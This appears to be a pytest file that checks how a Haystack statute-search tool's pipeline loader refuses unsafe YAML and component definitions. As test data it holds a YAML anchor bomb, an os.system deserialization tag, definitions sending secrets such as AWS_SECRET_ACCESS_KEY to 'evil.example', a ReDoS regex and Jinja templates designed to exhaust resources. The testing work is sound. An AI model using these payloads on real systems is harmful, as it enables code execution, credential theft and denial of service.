"""Pipeline files: what may stand in them, and what is refused before anything is built."""

import copy
import importlib
import json
import pkgutil
import re
from collections.abc import Callable
from typing import Any, get_type_hints

import pytest
import yaml
from effort import bounded_effort
from haystack import Pipeline, component
from haystack.core import serialization_security
from haystack.core.errors import PipelineRuntimeError

import components
from components.aliases import trusted_name
from pipelines.asking import ask
from pipelines.checking import (
    FOLDER,
    HAYSTACK_CLASSES,
    MAX_BYTES,
    OUR_CLASSES,
    QDRANT_STORE,
    LoadingError,
    check_definition,
    read_pipeline_file,
)
from pipelines.home import resolve
from pipelines.loading import chat_generator, generator_overrides, load_pipeline

BOMB = "\n".join(
    [
        "metadata:",
        "  a0: &a0 [x, x, x, x, x, x, x, x, x]",
        *(f"  a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)),
    ]
)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (BOMB, r"made.yaml:2: anchor '&a0'"),
        ("metadata: {a: *b}", r"made.yaml:1: alias '\*b'"),
        ("metadata:\n  deep: " + "[" * 500, r"made.yaml:2: nested deeper"),
        ("\n".join(" " * n + "k:" for n in range(300)), "nested deeper than 20 levels"),
        (
            "components:\n  x: !!python/object/apply:os.system ['id']",
            r"made.yaml:2: tag '.*os.system'",
        ),
        ("a: 1\n---\nb: 2", "single document"),
        ("components: {}\nconnections: []\ncomponents: {}", "3: key 'components' is repeated"),
        ("components:\n  on: {}", "2: a key must be plain text"),
        ("<<: {a: 1}", "a key must be plain text"),
        ("a: [1, 2", "cannot be read"),
        ("a: " + "9" * 5000, "cannot be read"),
        ("", "must hold a mapping"),
        (b"a: \xff", "utf-8"),
        (b"a: \x00", "cannot be read"),
        ("a: " + "x" * MAX_BYTES, "at most 65,536"),
    ],
)
def test_a_file_that_is_not_a_plain_mapping_is_refused_at_once(tmp_path, text, message):
    path = tmp_path / "made.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    with bounded_effort(), pytest.raises(LoadingError, match=message) as refusal:
        read_pipeline_file(path)
    assert len(str(refusal.value)) < 600


STORE_PART = {
    "type": trusted_name("components.stores.sqlite.StatuteDocumentStore"),
    "init_parameters": {"path": None},
}
BM25 = trusted_name("components.retrievers.bm25.StatuteBM25Retriever")
FUSER = trusted_name("components.joiners.rank_fusion.StatuteRankFuser")
LEXICAL: dict[str, Any] = {
    "components": {
        "bm25": {"type": BM25, "init_parameters": {"document_store": STORE_PART, "top_k": 5}},
        "fuser": {"type": FUSER, "init_parameters": {"stages": ["bm25"], "weights": {"bm25": 1}}},
    },
    "connections": [{"sender": "bm25.documents", "receiver": "fuser.bm25"}],
    "inputs": {"query": ["bm25.query"], "top_k": "fuser.top_k"},
    "outputs": {"documents": "fuser.documents"},
}


def changed(definition: dict[str, Any], place: str, value: Any) -> dict[str, Any]:
    """A copy with the value at "a/b/c" replaced; `...` removes it."""
    definition = copy.deepcopy(definition)
    *above, last = (int(key) if key.isdecimal() else key for key in place.split("/"))
    inner: Any = definition
    for key in above:
        inner = inner[key]
    if value is ...:
        del inner[last]
    else:
        inner[last] = value
    return definition


PARAMETERS = "components/bm25/init_parameters"
FUSER_PARAMETERS = "components/fuser/init_parameters"
STORE_PARAMETERS = f"{PARAMETERS}/document_store/init_parameters"


@pytest.mark.parametrize(
    ("place", "value", "message"),
    [
        ("component", {}, r"x.yaml: component: "),
        ("components", [], "components: "),
        ("components/bm25/init_params", {}, r"bm25\.init_params: "),
        ("components/bm25/init_parameters", [1], "bm25.init_parameters: "),
        ("components/bm25/type", "os.system", "components.bm25.type: os.system .*allowed_classes"),
        ("components/bm25/type", BM25.replace("bm25", "bm52"), "components.bm25.type: "),
        ("components/bm25/type", STORE_PART["type"], "components.bm25.type"),
        (PARAMETERS, {}, r"bm25.document_store: "),
        (f"{PARAMETERS}/topk", 3, "bm25.topk: "),
        (f"{PARAMETERS}/top_k", "ten", "bm25.top_k: "),
        (f"{PARAMETERS}/filters", ["x"], "bm25.filters: "),
        (f"{PARAMETERS}/document_store", "law.db", "bm25.document_store: "),
        (f"{STORE_PARAMETERS}/pth", "law.db", "bm25.document_store.pth: "),
        (f"{STORE_PARAMETERS}/path", {"name": "law.db"}, "bm25.document_store.path: "),
        (f"{PARAMETERS}/document_store/type", "evil.Store", "document_store.type: evil.Store"),
        (f"{FUSER_PARAMETERS}/weights", {"bm25": "1"}, "fuser.weights"),
        ("connections/0/sender", "bm52.documents", "connections.0.sender: .*'bm52.documents'"),
        ("connections/0/from", "bm25.documents", "connections.0.from: "),
        ("inputs/query", ["bm25"], "inputs.query: .*'bm25'"),
        ("outputs/documents", "fusr.documents", "outputs.documents: .*'fusr.documents'"),
        ("max_runs_per_component", "many", "max_runs_per_component: "),
    ],
)
def test_a_fault_is_named(place, value, message):
    with pytest.raises(LoadingError, match=message) as refusal:
        check_definition(changed(LEXICAL, place, value), "x.yaml")
    assert str(refusal.value).startswith("x.yaml: ")


ANSWER = "haystack.components.builders.answer_builder.AnswerBuilder"
BRANCH = "haystack.components.joiners.branch.BranchJoiner"
CHAT_PROMPT = "haystack.components.builders.chat_prompt_builder.ChatPromptBuilder"
MOCK = "haystack.components.generators.chat.mock.MockChatGenerator"
OPENAI = "haystack.components.generators.chat.openai.OpenAIChatGenerator"
PROMPT = "haystack.components.builders.prompt_builder.PromptBuilder"
TOLERANT = trusted_name("components.generators.tolerant.TolerantChatGenerator")
REWRITER = trusted_name("components.generators.rewriter.StatuteQueryRewriter")
ENGINE_BM25 = trusted_name("components.retrievers.engines.EngineLexicalRetriever")


def made(kind: str, **parameters: Any) -> dict[str, Any]:
    """An object as a file has it."""
    return {"type": kind, "init_parameters": parameters}


def secret(*variables: str) -> dict[str, Any]:
    return {"type": "env_var", "env_vars": list(variables), "strict": False}


def over(store: dict[str, Any]) -> dict[str, Any]:
    """A component that asks an engine."""
    return made(ENGINE_BM25, document_store=store)


# The functions of a tool and of a hook, in Haystack's other form.
TOOL = {
    "type": "haystack.tools.tool.Tool",
    "data": {"name": "t", "function": "components.models.weights.load"},
}
HOOK = {
    "type": "haystack.hooks.tool_result_offloading.hooks.ToolResultOffloadHook",
    "init_parameters": {"store": {"type": "haystack.x.FileSystemStore", "data": {"root": "/"}}},
}
AGENT = made(
    "haystack.components.agents.agent.Agent",
    chat_generator=made(MOCK, responses=[]),
    hooks={"after_tool": [HOOK]},
)
ENGINE_KEY = made(QDRANT_STORE, url="http://evil.example", api_key=secret("AWS_SECRET_ACCESS_KEY"))
LOCAL_KEY = secret("LEXARBOR_GENERATOR_KEY")


@pytest.fixture
def load(tmp_path) -> Callable[..., Pipeline]:
    """`load(name=fields, ...)`: those components, from a file."""

    def loaded(definition: dict[str, Any], **arguments: Any) -> Pipeline:
        path = tmp_path / "theirs.yaml"
        path.write_text(json.dumps(definition))  # YAML too, and without anchors
        return load_pipeline(path, **arguments)

    return loaded


ATTACKS = {
    "agent.type": AGENT,
    "converter.type": made("haystack.components.converters.txt.TextFileToDocument"),
    "fetcher.type": made("haystack.components.fetchers.link_content.LinkContentFetcher"),
    "router.type": made("haystack.components.routers.conditional_router.ConditionalRouter"),
    "nested.type": made("haystack.core.super_component.super_component.SuperComponent"),
    "ours.type": made("components.models.weights.load_weights"),
    "index.type": made("components.models.lexical_index.LexicalIndex"),
    "mock.meta.tools.0.type": made(MOCK, meta={"tools": [TOOL]}),
    "mock.meta.after.0.type": made(MOCK, meta={"after": [HOOK]}),
    "mock.meta.deep.0.0.x.type": made(MOCK, meta={"deep": [[{"x": made("os.System")}]]}),
    "openai.type": made(OPENAI, api_key=LOCAL_KEY, api_base_url="http://evil.example"),
    "generator.chat_generator": made(
        TOLERANT, chat_generator=made(OPENAI, api_key=LOCAL_KEY, api_base_url="http://evil.example")
    ),
    "rewriter.chat_generator": made(
        REWRITER,
        document_store={},
        chat_generator=made(OPENAI, api_key=LOCAL_KEY, api_base_url="http://evil.example"),
    ),
    "mock.response_fn": made(MOCK, response_fn="components.models.weights.load"),
    "mock.streaming_callback": made(MOCK, streaming_callback="builtins.print"),
    "mock.meta.key": made(MOCK, meta={"key": secret("HOME")}),
    "branch.type_": made(BRANCH, type_="list[haystack.components.agents.agent.Agent]"),
    "answer.pattern": made(ANSWER, pattern="(a+)+$"),
    "qdrant.document_store.api_key": over(ENGINE_KEY),
    "qdrant.document_store.metadata.key": over(
        made(QDRANT_STORE, metadata={"key": secret("QDRANT_API_KEY")})
    ),
    "qdrant.document_store.recreate_index": over(made(QDRANT_STORE, recreate_index=True)),
    "qdrant.document_store.client_kwargs": over(made(QDRANT_STORE, client_kwargs={"url": "x"})),
    "prompt.template": made(PROMPT, template="{{ 9**9999999 }}"),
}


@pytest.mark.parametrize("unsafe", [False, True])
def test_an_attack_is_refused_by_its_key(unsafe, load, monkeypatch):
    # Haystack reads HAYSTACK_UNSAFE_DESERIALIZATION once per process, and keeps it here.
    monkeypatch.setattr(serialization_security, "_unsafe_env_snapshot", unsafe)
    monkeypatch.setenv("HAYSTACK_DESERIALIZATION_ALLOWLIST", "*")
    for place, attack in ATTACKS.items():
        definition = {"components": {place.split(".")[0]: attack}}
        with pytest.raises(LoadingError, match=rf"[ .]{place}: ") as refusal:
            load(definition)
        assert len(str(refusal.value)) < 500


@pytest.mark.parametrize(
    "template",
    [
        "{{ 9**9999999 }}",
        "{{ n ** m }}",
        "{{ 'a' * 999999999 }}",
        "{{ '%99999999d' % 1 }}",
        "{% for i in range(999999999) %}x{% endfor %}",
        "{% for a in x %}{% for b in x %}{%- for c in x %}{% endfor %}{% endfor %}{% endfor %}",
        "{% for a in x recursive %}{{ a }}{% endfor %}",
        "{% set x = x ~ x %}",
        "{{ [[x] ~ ''] ~ '' }}",
        "{{ x.format(1) }}",
        "{{ x | center(99999999) }}",
        "{{ x | map('center', 99999999) }}",
        "{{ x | join(x) }}",
        "{{ x | join(*y) }}",
        "{{ x | join('-') | join('-') | join('-') }}",
        "{% message role='user' %}{{ 9**9999999 }}{% endmessage %}",
        "{% message role='user' meta={'a': 9**9999999} %}x{% endmessage %}",
        "{% message role='user' %}" * 99 + '"' + "{% endmessage %}" * 99,
        "{% now 'UTC' %}",
        "{{ " + "(" * 4000 + "x" + ")" * 4000 + " }}",
        "{{ " + "9" * 9000 + " }}",
        "{{ x }}" * 2000,
        "{{{ x }}{ 9**9999999 }}",
        "{{ x",
    ],
)
def test_a_template_without_a_bound_is_refused(template, load):
    listed = [{"role": "user", "meta": {}, "name": None, "content": [{"text": template}]}]
    for kind, given in ((PROMPT, template), (CHAT_PROMPT, listed)):
        with (
            bounded_effort(),
            pytest.raises(LoadingError, match=r"\.p\.template[.\w]*: .*template"),
        ):
            load({"components": {"p": made(kind, template=given)}})


def test_plain_templates_pass_and_overrides_give_any(load):
    text = (
        "{% for d in documents[:5] %}{{ loop.index }}. {{ d.meta['law'] ~ ' ' ~ d.content | trim }}"
        "{% if not loop.last and d.score > 0.5 %}, {% else %}; {% endif %}{% endfor %}"
        "{{ documents | length }}{{ documents | map(attribute='content') | join('\\n') }}"
        "{% for a, b in pairs %}{% for c in b %}{{ a }}{% endfor %}{% endfor %}"
        "{% for d in documents if d.score %}{{ d.score }}{% endfor %}"
        "{% if language in ['en', 'fr'] %}{{ query + '?' if query else '' }}{% endif %}"
    )
    said = '{% message role="user" meta={"a": q} %}' + text + "{% endmessage %}{% insert h[-1:] %}"
    listed = [{"role": "user", "meta": {}, "name": None, "content": [{"text": "{{ q }}"}]}]
    parts = {
        "prompt": made(PROMPT, template=text),
        "chat": made(CHAT_PROMPT, template=said),
        "list": made(CHAT_PROMPT, template=listed),
    }
    filled = {"documents": [], "pairs": [], "language": "en", "query": "May I"}
    pipeline = load({"components": parts})
    assert pipeline.get_component("prompt").run(**filled) == {"prompt": "0May I?"}
    (message,) = pipeline.get_component("chat").run(**filled, q=1, h=[])["prompt"]
    assert (message.text, message.meta) == ("0May I?", {"a": 1})
    given = {"prompt.template": "{{ query.upper() }}"}
    prompt = load({"components": parts}, overrides=given).get_component("prompt")
    assert prompt.run(query="a") == {"prompt": "A"}


def test_every_listed_class_of_haystacks_is_there_with_its_limited_parameters():
    for name, limits in HAYSTACK_CLASSES.items():
        module, own = name.rsplit(".", 1)
        hints = get_type_hints(getattr(importlib.import_module(module), own).__init__)
        assert limits.keys() <= hints.keys(), name
        # A file would name a function or a type by its module, which is imported for it.
        named = {key for key, hint in hints.items() if re.search(r"Callable|\btype\b", str(hint))}
        assert named <= limits.keys(), name


def test_the_list_has_every_component_of_ours():
    for module in pkgutil.walk_packages(components.__path__, "components."):
        importlib.import_module(module.name)
    ours = {trusted_name(name) for name in component.registry if name.startswith("components.")}
    assert ours | {STORE_PART["type"]} == set(OUR_CLASSES)


MINE = """
from haystack import component

@component
class Shout:
    def __init__(self, mark="!", write=None, key=None):
        self.mark = mark

    @component.output_types(text=str)
    def run(self, text: str):
        return {"text": text.upper() + self.mark}
"""


@pytest.mark.parametrize("by_name", [True, False])
def test_a_callers_own_class_comes_in_when_it_is_allowed(by_name, load, tmp_path, monkeypatch):
    (tmp_path / f"my_parts_{by_name}.py").write_text(MINE)
    monkeypatch.syspath_prepend(tmp_path)
    name = f"my_parts_{by_name}.Shout"
    definition = {"components": {"shout": made(name, mark="?")}}
    with pytest.raises(LoadingError, match=rf"shout\.type: .*allowed_classes=\['{name}'\]"):
        load(definition)
    allowed = [name if by_name else importlib.import_module(f"my_parts_{by_name}").Shout]
    shout = load(definition, allowed_classes=allowed).get_component("shout")
    assert shout.run(text="may I") == {"text": "MAY I?"}
    # Allowed is this class, and no other that it would be given.
    definition["components"]["shout"]["init_parameters"]["write"] = [AGENT]
    with pytest.raises(LoadingError, match=r"shout\.write\.0\.type: "):
        load(definition, allowed_classes=allowed)
    definition["components"]["shout"] = made(name, key=secret("HOME"))
    with pytest.raises(LoadingError, match=r"shout\.key: .*HOME"):
        load(definition, allowed_classes=allowed)
    load(definition, allowed_classes=allowed, overrides={"shout.key": secret("MY_KEY")})


def test_a_generators_server_is_the_callers(load, tmp_path, monkeypatch):
    monkeypatch.setenv("LEXARBOR_GENERATOR_KEY", "mine")
    of_file = made(OPENAI, timeout=120, api_base_url="http://evil.example")
    definition = {"components": {"writer": made(TOLERANT, chat_generator=of_file)}}
    with pytest.raises(LoadingError, match=r"writer\.chat_generator: .*--generator URL"):
        load(definition)
    url = "http://localhost:11434/v1"
    overrides = generator_overrides(tmp_path / "theirs.yaml", url, "any")
    loaded = load(definition, overrides=overrides).get_component("writer").chat_generator
    assert (loaded.api_base_url, loaded.timeout) == (url, 120)
    other = chat_generator(url, "any")
    other["init_parameters"]["api_key"] = secret("HOME")
    with pytest.raises(LoadingError, match=r"writer\.chat_generator\.api_key: .*HOME"):
        load(definition, overrides={"writer.chat_generator": other})
    assert load(definition, allowed_classes=[OPENAI])
    # Nor may a file's component pass for what the caller gives.
    definition["components"]["writer.chat_generator"] = made(TOLERANT, chat_generator=of_file)
    with pytest.raises(LoadingError, match=r"components: .*'writer\.chat_generator'"):
        load(definition, overrides=overrides)


EQUALS = {"field": "meta.law", "operator": "=", "value": "Work Code"}
STAGES = ["citation", "bm25", "dense"]


@pytest.mark.parametrize(
    ("place", "value", "message"),
    [
        ("connections/2", ..., r"components\.fuser: .*'bm25'"),
        (f"{FUSER_PARAMETERS}/stages", STAGES, r"components\.fuser: .*'dense'"),
        (f"{FUSER_PARAMETERS}/full_coverage", {"bm25": 0.5}, r"components\.fuser: .*'query'"),
        ("components/other", LEXICAL["components"]["bm25"], r"components\.other: .*'query'"),
        (f"{PARAMETERS}/filters", EQUALS, r"bm25\.filters: .*'='"),
        ("outputs/documents", "reranker.documents", r"outputs\.documents: .*'reranker"),
        ("outputs/documents", "citation.missing", r"outputs\.documents: citation\.missing"),
        (f"{PARAMETERS}/k1", -1, r"StatuteBM25Retriever\.k1"),
        (f"{PARAMETERS}/top_k", 2**63, r"StatuteBM25Retriever\.top_k"),
        ("max_runs_per_component", -5, "max_runs_per_component"),
        ("components/a.b", LEXICAL["components"]["bm25"], "a name has no dot"),
    ],
)
def test_a_slip_is_one_line(place, value, message, text_store, tmp_path, command):
    file = yaml.safe_load((FOLDER / "lexical.yaml").read_text(encoding="utf-8"))
    path = tmp_path / "mine.yaml"
    path.write_text(json.dumps(changed(file, place, value)), encoding="utf-8")
    code, out, err = command("ask", "rent", "--store", text_store, "--pipeline", path)
    assert (code, out) == (2, "")
    (line,) = err.splitlines()
    assert line.startswith(f"error: {path}: ")
    assert re.search(message, line)


@component
class _Faulty:
    @component.output_types(documents=list[str])
    def run(self, query: str) -> dict[str, list[str]]:
        raise ValueError(f"{query} was too much.")


def test_a_component_that_fails_is_named_with_its_pipeline():
    sockets = {"inputs": {"query": ["it.query"]}, "outputs": {"documents": ["it.documents"]}}
    pipeline = Pipeline(metadata={"name": "mine", **sockets})
    pipeline.add_component("it", _Faulty())
    with pytest.raises(PipelineRuntimeError) as raised:
        ask(pipeline, "Rent")
    assert str(raised.value) == "The pipeline mine: it failed: Rent was too much."


def test_an_engines_address_is_the_one_that_is_given():
    plan = resolve("qdrant", "http://localhost:6333", None, print)
    assert (plan.store, plan.asks_engine) == ("http://localhost:6333", True)
    with pytest.raises(LoadingError, match="--store http://localhost:6333"):
        resolve("qdrant", None, None, print)


def test_without_the_packages_of_models_only_pipelines_without_one_are_loaded(
    law_store, text_store, monkeypatch
):
    monkeypatch.setattr("components.models.folder.can_run_models", lambda: False)
    load_pipeline("lexical", store=law_store)
    load_pipeline("hybrid", store=text_store)  # by words
    for name in ("hybrid", "dense"):
        with pytest.raises(LoadingError, match=r"pip install 'lexarbor\[models\]'"):
            load_pipeline(name, store=law_store)
